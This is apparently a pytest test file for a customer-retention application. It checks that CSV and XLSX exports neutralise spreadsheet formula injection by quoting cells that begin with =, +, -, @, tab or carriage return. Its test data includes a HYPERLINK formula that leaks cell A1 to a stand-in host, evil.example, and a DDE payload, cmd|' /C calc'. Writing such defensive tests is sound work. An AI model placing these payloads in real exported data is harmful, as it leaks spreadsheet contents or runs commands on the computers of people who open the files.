"""Spreadsheet formula injection: text that starts with = + - @ tab or CR is exported inert."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from retento.complaints import transfer
from retento.customers.models import Customer
from retento.dataio import service
from retento.dataio.cells import neutralise, restore
from retento.dataio.exporter import cell
from retento.dataio.readers import open_table
from tests.factories import make_customer
from tests.factories.complaints import make_complaint

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("'=already", "''=already"),
        ("plain", "plain"),
        ("'quoted", "'quoted"),
        ("", ""),
        (" =spaced", " =spaced"),
        # A plain number is not a formula: left as it is, also when it is text.
        ("-15.00", "-15.00"),
        ("+15", "+15"),
        ("-1.5e3", "-1.5e3"),
        ("'-15.00", "''-15.00"),
        # Anything more than a plain number still gets the quote.
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("+1-2", "'+1-2"),
        ("-2E3+A1", "'-2E3+A1"),
        ("-15.00 ", "'-15.00 "),
        ("-", "'-"),
        ("-.5", "'-.5"),
    ],
)
def test_neutralise_prefixes_dangerous_text_and_restore_undoes_it(value, expected):
    assert neutralise(value) == expected
    assert restore(expected) == value


def test_numbers_stay_numbers():
    assert neutralise(-5) == -5
    assert neutralise(Decimal("-5.00")) == Decimal("-5.00")
    assert cell(Decimal("-5.00")) == "-5.00"
    assert cell(-3) == "-3"
    assert cell("-3") == "-3"  # text holding a plain number: not a formula
    assert cell("-3*7") == "'-3*7"


def test_a_quoted_number_of_an_older_export_reads_back_as_the_number():
    assert restore("'-15.00") == "-15.00"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_customer_export_is_inert_and_round_trips(db, users):
    admin = users["admin"]
    make_customer(db, external_id="F1", name=EVIL, note="@cmd", city="-Lyon")
    db.flush()
    text = "".join(service.export_csv(db, "customers", actor=admin))
    row = _rows(text)[0]
    assert row["name"] == "'" + EVIL
    assert (row["note"], row["city"]) == ("'@cmd", "'-Lyon")
    report = service.import_file(db, "customers", text.encode(), name="c.csv", actor=admin)
    assert (report.updated, report.unchanged) == (0, 1)
    c = db.scalar(select(Customer).where(Customer.external_id == "F1"))
    assert (c.name, c.note, c.city) == (EVIL, "@cmd", "-Lyon")


def test_the_api_export_is_inert(client, tokens, db):
    make_customer(db, external_id="F2", name="+cmd|' /C calc'!A0")
    db.commit()
    r = client.get("/api/v1/exports/customers.csv", headers=tokens["analyst"])
    assert _rows(r.text)[0]["name"] == "'+cmd|' /C calc'!A0"


def test_rejects_file_is_inert(db, users, tmp_path: Path):
    data = f'external_id,name,kind\nR1,"{EVIL.replace(chr(34), chr(34) * 2)}",nonsense\n'
    rejects = tmp_path / "r.rejects.csv"
    service.import_file(
        db,
        "customers",
        data.encode(),
        name="r.csv",
        actor=users["admin"],
        skip_invalid=True,
        rejects_path=rejects,
    )
    row = _rows(rejects.read_text("utf-8-sig"))[0]
    assert row["name"] == "'" + EVIL


def test_rejects_file_keeps_negative_numbers_and_quotes_formulas(db, users, tmp_path: Path):
    data = (
        "external_id,name,category,unit_price,unit_cost\n"
        "N1,Neg,-1+1,-15.00,1.00\n"
        "N2,@SUM(A1),=cmd|' /C calc'!A0,-3.50,1.00\n"
    )
    rejects = tmp_path / "p.rejects.csv"
    service.import_file(
        db,
        "products",
        data.encode(),
        name="p.csv",
        actor=users["admin"],
        skip_invalid=True,
        rejects_path=rejects,
    )
    rows = _rows(rejects.read_text("utf-8-sig"))
    assert [r["unit_price"] for r in rows] == ["-15.00", "-3.50"]
    assert [r["category"] for r in rows] == ["'-1+1", "'=cmd|' /C calc'!A0"]
    assert rows[1]["name"] == "'@SUM(A1)"


def test_complaint_exports_are_inert(db, users, client, tmp_path: Path):
    from tests.web.conftest import Browser

    c = make_complaint(db, actor=users["agent"], subject="-1 star", description=EVIL)
    db.commit()
    path = tmp_path / "complaints.csv"
    transfer.write_csv(db, path, actor=users["admin"])
    row = _rows(path.read_text("utf-8-sig"))[0]
    assert (row["subject"], row["description"]) == ("'-1 star", "'" + EVIL)
    assert row["id"] == str(c.id)  # numbers are untouched
    boss = Browser(client)
    boss.login("admin")
    row = _rows(boss.get("/complaints/export.csv?tab=all").text)[0]
    assert row["description"] == "'" + EVIL
    # re-importing the export restores the text exactly
    table = open_table(path)
    rows = list(table.rows)
    desc = table.header.index("description")
    assert rows[0][1][desc] == EVIL


def _survey(db, users):
    from retento.surveys import responses as survey_responses
    from retento.surveys import service as surveys
    from retento.surveys.schemas import AnswerIn, ResponseCreate, SurveyUpdate
    from tests.surveys.conftest import small_survey_data

    s = surveys.create_survey(db, small_survey_data(), actor=users["manager"])
    surveys.update_survey(db, s.id, SurveyUpdate(status="active"), actor=users["manager"])
    cust = make_customer(db, external_id="S1")
    survey_responses.record_response(
        db,
        s.id,
        ResponseCreate(
            customer_id=cust.id,
            answers=[AnswerIn(question="sat", number=4), AnswerIn(question="note", text=EVIL)],
        ),
        actor=users["agent"],
    )
    db.flush()
    return s


def test_survey_csv_export_is_inert_and_reimports(db, users):
    from retento.surveys import fileio

    s = _survey(db, users)
    data = fileio.export_bytes(db, s.id, actor=users["analyst"], fmt="csv")
    row = _rows(data.decode("utf-8"))[0]
    assert (row["note"], row["sat"]) == ("'" + EVIL, "4")
    rep = fileio.import_responses(db, s.id, data, "out.csv", actor=users["manager"])
    assert (rep["updated"], rep["errors"]) == (1, [])
    _, rows = fileio.export_rows(db, s.id, actor=users["analyst"])
    header = fileio.export_columns(s)
    assert dict(zip(header, rows[0], strict=True))["note"] == EVIL


def test_survey_xlsx_export_has_no_formulas_and_keeps_numbers(db, users):
    from retento.surveys import fileio

    s = _survey(db, users)
    data = fileio.export_bytes(db, s.id, actor=users["analyst"], fmt="xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    note = ws.cell(row=2, column=header.index("note") + 1)
    sat = ws.cell(row=2, column=header.index("sat") + 1)
    assert note.data_type == "s" and note.value == "'" + EVIL
    assert sat.data_type == "n" and sat.value == 4
    rep = fileio.import_responses(db, s.id, data, "out.xlsx", actor=users["manager"])
    assert (rep["updated"], rep["errors"]) == (1, [])
    _, rows = fileio.export_rows(db, s.id, actor=users["analyst"])
    assert dict(zip(fileio.export_columns(s), rows[0], strict=True))["note"] == EVIL


def test_distribution_links_csv_is_inert(db, users, client):
    from retento.surveys import distributions as survey_distributions
    from retento.surveys.schemas import DistributionCreate
    from tests.web.conftest import Browser

    s = _survey(db, users)
    c = make_customer(
        db,
        external_id="L1",
        name="=cmd|' /C calc'!A0",
        email="l1@example.com",
        consent_phone=True,
        consent_email=True,
    )
    dist, _ = survey_distributions.create_distribution(
        db,
        s.id,
        DistributionCreate(channel="phone", segment={"kind": "customers", "customer_ids": [c.id]}),
        actor=users["manager"],
    )
    assert dist.invited == 1, dist.invited
    db.commit()
    boss = Browser(client)
    boss.login("manager")
    r = boss.get(f"/surveys/{s.id}/distributions/{dist.id}/links.csv")
    assert r.status_code == 200, r.text
    row = _rows(r.text)[0]
    assert row["name"] == "'=cmd|' /C calc'!A0"
    assert row["customer_id"] == str(c.id)
